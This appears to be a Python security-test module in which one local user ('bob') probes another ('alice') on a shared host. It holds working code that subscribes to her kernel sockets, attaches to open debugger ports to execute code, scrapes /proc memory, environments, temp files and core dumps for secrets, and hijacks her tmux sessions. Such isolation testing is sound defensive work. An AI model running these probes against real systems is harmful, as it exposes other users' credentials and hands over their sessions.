"""What bob overhears and reads: the part of `attacks` about kernels, debuggers, files, command lines and tmux."""

import contextlib
import json
import os
import socket
import subprocess
import sys

if __name__ != "__main__":  # run, these names are there
    from tests.security.attacks import MOST, at_once, tcp_ports, unix_sockets

# --- kernels ---


def eavesdrop(marker):
    """Listen to all of alice's ports as a front end listens to a kernel, until told to stop; tell what was heard."""
    import zmq

    context, sockets = zmq.Context(), []
    for address, port in tcp_ports():
        one = context.socket(zmq.SUB)
        one.setsockopt(zmq.SUBSCRIBE, b"")
        one.setsockopt(zmq.IPV6, 1)
        one.connect(f"tcp://[{address}]:{port}" if ":" in address else f"tcp://{address}:{port}")
        sockets.append(one)
    print("listening", flush=True)
    poller, heard = zmq.Poller(), b""
    for one in [*sockets, sys.stdin]:
        poller.register(one, zmq.POLLIN)
    while sys.stdin.fileno() not in (ready := dict(poller.poll())):
        heard += b"".join(b"".join(one.recv_multipart()) for one in ready if one in sockets)
        if marker.encode() in heard:
            print("heard", flush=True)
            break
    context.destroy(linger=0)
    return {"fell": [marker] if marker.encode() in heard else [], "tried": len(sockets)}


def debug():
    """Attach to all of alice's ports as a debugger, and run code."""
    places = tcp_ports()
    return {"fell": sorted(filter(None, at_once(debug_at, places))), "tried": len(places)}


def debug_at(address, port):
    """Return what a port runs for a debugger, and as whom; None where it is none or lets nobody in."""
    with contextlib.suppress(OSError, ValueError), socket.create_connection((address, port), timeout=5) as connection:
        stream = connection.makefile("rwb")
        tell_debugger(stream, "initialize", {"adapterID": "bob"})
        if not answer_of(stream, "initialize"):
            return None
        tell_debugger(stream, "attach", {"justMyCode": False})
        answer_of(stream, "initialized")
        tell_debugger(stream, "configurationDone", {})
        if not answer_of(stream, "attach"):
            return None
        code = "__import__('os').getuid()"
        tell_debugger(stream, "evaluate", {"expression": code, "context": "repl"})
        return f"code as {answer_of(stream, 'evaluate')['result']}"
    return None


def tell_debugger(stream, command, arguments):
    """Send a request as the Debug Adapter Protocol has it."""
    message = json.dumps({"seq": 1, "type": "request", "command": command, "arguments": arguments}).encode()
    stream.write(b"Content-Length: %d\r\n\r\n%s" % (len(message), message))
    stream.flush()


def answer_of(stream, name):
    """Return the body of the answer to a request, or of the event `name`; None where it was refused."""
    while line := stream.readline(1000):
        if line.startswith(b"Content-Length: "):
            length = int(line.split()[1])
            stream.readline()
            one = json.loads(stream.read(length))
            if name in (one.get("command"), one.get("event")):
                return (one.get("body") or {"nothing": True}) if one.get("success", True) else None
    raise OSError("it is none, or has gone")


# --- secrets ---


def texts():
    """Yield what bob can read of alice, with where he found it."""
    for name in sorted(name for name in os.listdir("/proc") if name.isdigit()):
        for part in ("cmdline", "environ", "mem", "maps", "stack"):
            yield f"/proc/*/{part}", read(f"/proc/{name}/{part}")
        for link in ("cwd", "exe", "root"):
            with contextlib.suppress(OSError):
                yield f"/proc/*/{link}", os.readlink(f"/proc/{name}/{link}").encode()
    yield "ps", subprocess.run(["ps", "auxwwe"], capture_output=True, check=False).stdout
    yield "/proc/net/unix", read("/proc/net/unix")
    for top in (
        "/tmp",
        "/var/tmp",
        "/dev/shm",
        "/run",
        "/home/alice",
        "/scratch",
        "/var/crash",
        "/var/lib/systemd/coredump",
    ):
        for directory, _, names in os.walk(top):
            for name in names:
                yield "files", read(os.path.join(directory, name))
    for name in unix_sockets():
        if "tmux" in name and not name.startswith("\0"):
            for words in (["show-environment", "-g"], ["list-panes", "-a"], ["capture-pane", "-p"]):
                done = subprocess.run(["tmux", "-S", name, *words], capture_output=True, check=False, timeout=10)
                yield "tmux", done.stdout


def read(path):
    """Return the start of a file; nothing where bob may not read it."""
    with contextlib.suppress(OSError, ValueError):
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        try:
            return os.read(descriptor, MOST)
        finally:
            os.close(descriptor)
    return b""


def look():
    """Look for secrets of alice's everywhere: ps, /proc, tmux, logs, files, core files. His input says for which."""
    markers = sys.stdin.read().split()  # arguments would be found themselves
    fell, tried = set(), 0
    for where, text in texts():
        tried += 1
        fell |= {f"{marker} in {where}" for marker in markers if marker.encode() in text}
    return {"fell": sorted(fell), "tried": tried}


def join():
    """Join alice's tmux, and run something in it."""
    fell, tried = [], 0
    for name in unix_sockets():
        if "tmux" in name:
            tried += 1
            for words in (["list-sessions"], ["new-window", "-d", "true"]):
                done = subprocess.run(["tmux", "-S", name, *words], capture_output=True, check=False, timeout=10)
                if done.returncode == 0:
                    fell.append(words[0])
    return {"fell": fell, "tried": tried}
